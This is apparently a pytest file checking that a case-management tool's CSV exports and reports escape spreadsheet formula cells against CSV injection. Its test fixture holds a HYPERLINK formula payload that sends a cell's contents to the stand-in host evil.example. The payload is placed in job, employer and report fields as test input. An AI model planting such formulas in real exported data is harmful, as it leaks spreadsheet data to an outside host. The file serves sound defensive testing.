"""Every CSV a report writes escapes formula cells as the exports do (OWASP's CSV injection):
the SEQF pack's client list and sample, and `report ... --format csv`; one rule for all."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from helpers import Clock

import se_flow
from se_flow import _csv_cells, _export, _report_render
from se_flow._evidence import LEAST_EVIDENCE
from se_flow._report import KPI, Report, quarter
from se_flow._report_render import to_csv

D = dt.date
NOW = dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.UTC)
LINK = '=HYPERLINK("https://evil.example/?q="&A1,"click")'


@pytest.fixture
def flow() -> Iterator[se_flow.SEFlow]:
    with se_flow.open(":memory:", actor="sam", clock=Clock(NOW)) as f:
        f.add_staff("ada", "Ada Admin", "admin", actor="ada")
        f.add_staff("sam", "Sam", "coach", actor="ada")
        yield f


def _into_work(flow: se_flow.SEFlow, job: str, employer: str) -> str:
    """A case walked with the least evidence to a job `job` at `employer`, started and ended
    (the end's reason a formula too)."""
    day = D(2026, 7, 6)
    case = flow.refer(
        "P", source="GP", referral={"programme": "ips_grow"}, coach="sam", effective_at=day
    ).case
    flow.advance(case.id, "engage", effective_at=day)
    for place in ("customer_engagement", "vocational_profiling", "employer_engagement"):
        step = LEAST_EVIDENCE[place]
        for kind, fields in step.records:
            flow.record(case.id, kind, dict(fields), effective_at=day)
        flow.advance(case.id, step.trigger, effective_at=day)
    for kind, fields in LEAST_EVIDENCE["job_matching"].records:
        values = dict(fields)
        if kind == "job_offer":
            values.update(start_date="2026-07-20", job=job, employer=employer)
        flow.record(case.id, kind, values, effective_at=day)
    flow.advance(case.id, "start_job", effective_at=D(2026, 7, 20))
    flow.record(case.id, "job_end", reason=LINK, end_date="2026-08-10", effective_at=D(2026, 8, 10))
    return case.id


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_seqf_client_list_and_sample_escape_formula_cells(
    flow: se_flow.SEFlow, tmp_path: Path
) -> None:
    case_id = _into_work(flow, LINK, LINK)
    made = flow.report("seqf", quarter="2026-Q3", out=tmp_path / "pack", sample=1, seed=3)
    (jobs,) = (c["jobs"] for c in made.clients if c["case_id"] == case_id)
    # The report's value is as written; only its CSV cell is escaped.
    assert jobs.startswith(LINK) and f"ended: {LINK}" in jobs
    for name in ("clients.csv", "sample.csv"):
        header, *rows = _cells((tmp_path / "pack" / name).read_text())
        (row,) = rows
        assert row[header.index("jobs")] == "'" + jobs, name
        assert row[header.index("case_id")] == case_id, name
        for cell in row:
            assert not cell.startswith(_csv_cells.FORMULA_STARTS), (name, cell)


def test_report_csv_escapes_a_formula_cell_and_leaves_numbers(flow: se_flow.SEFlow) -> None:
    period = quarter("2026-Q3")
    kpi = KPI(
        id="x",
        title=LINK,
        period=period,
        numerator=1,
        denominator=None,
        value=Decimal(-2),
        unit="count",
        method="@SUM(A1:A9) counts them",
        definition="ips_grow@1",
        definition_status="verified",
        basis="during",
        numerator_cases=("C-1",),
    )
    report = Report(
        name="ips-grow", title="t", period=period, on=D(2026, 9, 30), kpis=(kpi,), charts={}
    )
    header, row = _cells(to_csv(report))
    got = dict(zip(header, row, strict=True))
    assert got["title"] == "'" + LINK
    assert got["method"] == "'@SUM(A1:A9) counts them"
    # A value is written as text (a Decimal's string), so a negative one is escaped too.
    assert got["value"] == "'-2"
    assert got["numerator"] == "1" and got["numerator_cases"] == "C-1"


def test_exports_and_reports_share_one_rule() -> None:
    assert vars(_export)["defused"] is _csv_cells.defused
    assert vars(_report_render)["defused"] is _csv_cells.defused
    assert _csv_cells.defused(["=1", "+1", "-1", "@a", "\ta", "\ra", "a=", 5, None]) == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\ta",
        "'\ra",
        "a=",
        5,
        None,
    ]
